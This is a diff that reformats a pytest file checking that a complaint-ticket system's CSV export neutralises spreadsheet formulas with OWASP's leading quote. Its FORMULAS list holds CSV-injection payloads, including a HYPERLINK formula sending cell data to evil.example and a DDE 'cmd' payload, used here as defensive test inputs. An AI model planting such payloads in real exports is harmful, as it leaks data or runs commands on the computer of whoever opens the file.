@@ -3,6 +3,7 @@
 Citizens write the descriptions, names and addresses; officers write the public notes. Any of
 them starting with `= + - @`, a tab or a carriage return is written with OWASP's leading quote.
 """
+
 from __future__ import annotations
 
 import csv
@@ -12,8 +13,14 @@ import pytest
 
 from tests.support.tickets import bearer
 
-FORMULAS = ("=HYPERLINK(\"http://evil.example/?\"&A1,\"klik\")", "+1+cmd|' /C calc'!A0",
-            "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1")
+FORMULAS = (
+    '=HYPERLINK("http://evil.example/?"&A1,"klik")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)",
+    "\t=1+1",
+    "\r=1+1",
+)
 
 
 @pytest.fixture
@@ -27,9 +34,15 @@ def hostile_tickets(app_ctx, make_user):
     operator = db.session.query(User).filter_by(username="csv-operator").one()
     numbers = []
     for formula in FORMULAS:
-        ticket = create_ticket(channel="web", description=formula, category_code="jalan-rusak",
-                               reporter_name=formula, address=formula,
-                               lat=-7.8166123, lon=112.0119456).ticket
+        ticket = create_ticket(
+            channel="web",
+            description=formula,
+            category_code="jalan-rusak",
+            reporter_name=formula,
+            address=formula,
+            lat=-7.8166123,
+            lon=112.0119456,
+        ).ticket
         number = ticket.ticket_number
         apply_action(ticket, operator, "dispose", opd="PUPR")
         ticket = db.session.query(Ticket).filter_by(ticket_number=number).one()
@@ -71,6 +84,16 @@ def test_neutralise_formula_is_the_owasp_rule():
 
     for formula in FORMULAS:
         assert neutralise_formula(formula) == "'" + formula
-    for harmless in ("Jalan berlubang", "", "'=already quoted", "a=b", None, -7.8, 3, True,
-                     "+6281234567890", "-7.8166"):
+    for harmless in (
+        "Jalan berlubang",
+        "",
+        "'=already quoted",
+        "a=b",
+        None,
+        -7.8,
+        3,
+        True,
+        "+6281234567890",
+        "-7.8166",
+    ):
         assert neutralise_formula(harmless) == harmless
